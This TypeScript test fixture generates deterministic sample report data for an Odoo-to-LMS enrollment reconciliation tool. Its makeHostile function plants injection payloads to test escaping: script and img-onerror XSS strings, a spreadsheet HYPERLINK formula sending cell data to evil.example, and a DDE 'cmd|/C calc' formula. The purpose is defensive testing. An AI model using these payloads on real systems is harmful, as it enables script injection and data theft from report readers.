// A realistic, deterministic ReportData for the renderers' tests, so the page can be judged without a
// database. Same options, same bytes, on any machine and any day.
import type { FindingKind } from '../../src/reconcile/diff-types';
import type {
  FindingAction,
  FindingRow,
  HealedRow,
  ReportData,
  RunStatus,
  RunSummary,
} from '../../src/reconcile/report/types';
import { seededRandom } from '../../src/lib/random';

export interface SampleOptions {
  /** findings in this run (default 40, spread over every kind) */
  findings?: number;
  /** runs of history, this run included (default 30) */
  historyRuns?: number;
  /** findings of earlier runs healed in this one (default 6, 0 when findings is 0) */
  healed?: number;
  status?: RunStatus;
  dryRun?: boolean;
  /** puts markup and spreadsheet formulas where outside data goes (details, order names, emails) */
  hostile?: boolean;
  seed?: number;
}

const RUN_START = Date.parse('2025-11-24T02:00:00.000Z');
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const COURSES = ['PY-K12', 'JS-101', 'DATA-201', 'UX-110', 'SQL-050', 'ML-301'];
const NAMES = ['amina', 'bruno', 'chen', 'dana', 'emeka', 'fatima', 'goran', 'hana', 'ines', 'jonas'];
// Weighted like a real night: mostly missed enrollments, a few of everything else.
const KIND_CYCLE: FindingKind[] = [
  'missing_enrollment',
  'unpaid_enrollment',
  'missing_enrollment',
  'student_mismatch',
  'course_unmapped',
  'missing_enrollment',
  'duplicate_enrollment',
  'unpaid_enrollment',
  'missing_enrollment',
  'course_unmapped',
  'unassigned_seats',
];
const HEAL_AFTER_MS = [20 * 60_000, 6 * HOUR, 26 * HOUR, 2 * DAY + 3 * HOUR, 9 * HOUR, 4 * DAY, 3 * HOUR];

type Rand = () => number;
const int = (rand: Rand, min: number, max: number) => min + Math.floor(rand() * (max - min + 1));
const hex = (rand: Rand, n: number) =>
  Array.from({ length: n }, () => int(rand, 0, 15).toString(16)).join('');
const uuid = (rand: Rand) =>
  `${hex(rand, 8)}-${hex(rand, 4)}-4${hex(rand, 3)}-a${hex(rand, 3)}-${hex(rand, 12)}`;
const iso = (ms: number) => new Date(ms).toISOString();
const orderName = (id: number) => `S${String(id).padStart(5, '0')}`;

function detailFor(kind: FindingKind, order: string, course: string, student: string): string {
  switch (kind) {
    case 'missing_enrollment':
      return `paid order ${order} has no enrollment for ${student} in ${course}`;
    case 'unpaid_enrollment':
      return `${student} is enrolled in ${course} from order ${order}, which is refunded, and no paid order covers it`;
    case 'student_mismatch':
      return `the email of paid order ${order} is enrolled in ${course} under lms-user-4411, not ${student}; not enrolling a second identity`;
    case 'course_unmapped':
      return `paid order ${order} sells course ${course}, which the LMS does not know`;
    case 'duplicate_enrollment':
      return `${student} has 2 enrollments in ${course}`;
    case 'unassigned_seats':
      return `paid order ${order}: 3 of 20 seats in ${course} assigned; 17 have no learner yet`;
  }
}

function actionFor(kind: FindingKind, status: RunStatus, dryRun: boolean): FindingAction {
  if (kind !== 'missing_enrollment') return 'reported';
  if (dryRun) return 'dry_run';
  return status === 'held' ? 'held' : 'repair_queued';
}

function sampleFinding(i: number, rand: Rand, status: RunStatus, dryRun: boolean): FindingRow {
  const kind = KIND_CYCLE[i % KIND_CYCLE.length]!;
  const orderId = 4100 + i * 7 + int(rand, 0, 6);
  const partner = 300 + int(rand, 0, 900);
  const course = kind === 'course_unmapped' ? `LEGACY-${int(rand, 10, 99)}` : COURSES[i % COURSES.length]!;
  const student = `odoo-partner-${partner}`;
  const name = NAMES[partner % NAMES.length]!;
  const action = actionFor(kind, status, dryRun);
  const seenRuns = i % 4 === 0 ? int(rand, 2, 9) : 1;
  const order = kind === 'duplicate_enrollment' ? null : orderName(orderId);
  return {
    fingerprint: `${kind}:${order === null ? '-' : orderId}:${course}:${student}`,
    kind,
    orderId: order === null ? null : orderId,
    orderName: order,
    courseCode: course,
    studentId: student,
    email: `${name[0]}***@example.com`,
    enrollmentIds: kind === 'duplicate_enrollment' ? [`enr-${hex(rand, 6)}`, `enr-${hex(rand, 6)}`] : [],
    detail: detailFor(kind, order ?? '—', course, student),
    action,
    repairEventId: action === 'repair_queued' ? uuid(rand) : null,
    firstSeenAt: iso(RUN_START - (seenRuns - 1) * DAY),
    seenRuns,
  };
}

/** Outside data at its worst: markup in a detail and an order name, formulas for the CSV. */
function makeHostile(findings: FindingRow[]): void {
  const [a, b, c] = findings;
  if (a) a.detail = `<script>alert(1)</script> ${a.detail}`;
  if (b) b.orderName = `<img src=x onerror=alert(2)>`;
  if (c) {
    c.detail = `=HYPERLINK("http://evil.example/?x="&A1,"click"), said "the customer"`;
    c.email = '@SUM(1+1)*cmd|/C calc!A0';
  }
}

function sampleHealed(count: number, rand: Rand): HealedRow[] {
  return Array.from({ length: count }, (_, i) => {
    const after = HEAL_AFTER_MS[i % HEAL_AFTER_MS.length]!;
    const healedAt = RUN_START + int(rand, 1, 50) * 1000;
    const kind = KIND_CYCLE[(i * 3) % KIND_CYCLE.length]!;
    const orderId = 3900 + i * 11;
    const student = `odoo-partner-${200 + i * 13}`;
    const course = COURSES[(i + 2) % COURSES.length]!;
    return {
      fingerprint: `${kind}:${orderId}:${course}:${student}`,
      kind,
      orderName: orderName(orderId),
      courseCode: course,
      studentId: student,
      firstSeenAt: iso(healedAt - after),
      healedAt: iso(healedAt),
      healedAfterMs: after,
    };
  });
}

/** Nearest-rank percentile, the way the run loop reports time-to-heal. */
function percentile(values: number[], p: number): number | null {
  if (values.length === 0) return null;
  const sorted = [...values].sort((x, y) => x - y);
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)]!;
}

function countKinds(findings: FindingRow[]): Record<FindingKind, number> {
  const byKind: Record<FindingKind, number> = {
    course_unmapped: 0,
    duplicate_enrollment: 0,
    missing_enrollment: 0,
    student_mismatch: 0,
    unassigned_seats: 0,
    unpaid_enrollment: 0,
  };
  for (const f of findings) byKind[f.kind] += 1;
  return byKind;
}

function thisRun(o: Required<SampleOptions>, rand: Rand, findings: FindingRow[], healed: HealedRow[]) {
  const byKind = countKinds(findings);
  const repairs = findings.filter((f) => f.action === 'repair_queued').length;
  // A held run is one where the repairs are a large share of the paid lines: size it so they are.
  const paidLines =
    o.status === 'held' ? Math.ceil(byKind.missing_enrollment / 0.27) : 1204 + int(rand, 0, 40);
  const durations = healed.map((h) => h.healedAfterMs);
  const run: RunSummary = {
    id: uuid(rand),
    startedAt: iso(RUN_START),
    finishedAt: o.status === 'running' ? null : iso(RUN_START + 4_210),
    status: o.status,
    mode: 'incremental',
    dryRun: o.dryRun,
    trigger: 'schedule',
    orderLines: paidLines + 138,
    paidLines,
    enrollments: paidLines - byKind.missing_enrollment + byKind.unpaid_enrollment,
    findingsByKind: byKind,
    repairsQueued: repairs,
    healed: healed.length,
    heldReason: null,
    brakeLifted: null,
    error: o.status === 'failed' ? 'LMS listing failed: 503 Service Unavailable after 5 attempts' : null,
    timingsMs: { odoo: 1_840, lms: 1_210, diff: 38, writes: 262, tickets: 410 },
    timeToHealP50Ms: percentile(durations, 50),
    timeToHealP95Ms: percentile(durations, 95),
  };
  if (o.status === 'held') {
    const share = ((byKind.missing_enrollment / paidLines) * 100).toFixed(1);
    run.heldReason = `repairs would touch ${byKind.missing_enrollment} of ${paidLines} paid lines (${share}%), above RECONCILE_MAX_REPAIR_RATIO 0.2`;
  }
  return run;
}

/** Earlier nightly runs: a noisy, slowly improving trend, one held night and one failed night. */
function earlierRun(back: number, rand: Rand, template: RunSummary): RunSummary {
  const status: RunStatus = back === 9 ? 'held' : back === 17 ? 'failed' : 'succeeded';
  const findings = status === 'failed' ? 0 : status === 'held' ? 96 : int(rand, 8, 30) + Math.floor(back / 2);
  const byKind = countKinds([]);
  for (let i = 0; i < findings; i++) byKind[KIND_CYCLE[int(rand, 0, KIND_CYCLE.length - 1)]!] += 1;
  const started = RUN_START - back * DAY;
  const healedCount = status === 'failed' ? 0 : int(rand, 2, 14);
  return {
    ...template,
    id: uuid(rand),
    startedAt: iso(started),
    finishedAt: iso(started + int(rand, 3_000, 9_000)),
    status,
    mode: back % 7 === 0 ? 'full' : 'incremental',
    dryRun: false,
    findingsByKind: byKind,
    repairsQueued: status === 'succeeded' ? byKind.missing_enrollment : 0,
    healed: healedCount,
    heldReason: status === 'held' ? 'the LMS listing came back empty while Odoo has paid lines' : null,
    error: status === 'failed' ? 'Odoo XML-RPC timeout after 30 s (sale.order page 12)' : null,
    timeToHealP50Ms: healedCount === 0 ? null : int(rand, 3, 12) * HOUR,
    timeToHealP95Ms: healedCount === 0 ? null : int(rand, 24, 80) * HOUR,
  };
}

export function sampleReportData(options: SampleOptions = {}): ReportData {
  const findingCount = options.findings ?? 40;
  const o: Required<SampleOptions> = {
    findings: findingCount,
    historyRuns: Math.max(1, options.historyRuns ?? 30),
    healed: options.healed ?? (findingCount === 0 ? 0 : 6),
    status: options.status ?? 'succeeded',
    dryRun: options.dryRun ?? false,
    hostile: options.hostile ?? false,
    seed: options.seed ?? 20251124,
  };
  const rand = seededRandom(o.seed);
  const findings = Array.from({ length: o.findings }, (_, i) => sampleFinding(i, rand, o.status, o.dryRun));
  if (o.hostile) makeHostile(findings);
  const healed = sampleHealed(o.healed, rand);
  const run = thisRun(o, rand, findings, healed);
  const history: RunSummary[] = [];
  for (let back = o.historyRuns - 1; back >= 1; back--) history.push(earlierRun(back, rand, run));
  history.push(run);
  return { run, findings, healed, history };
}
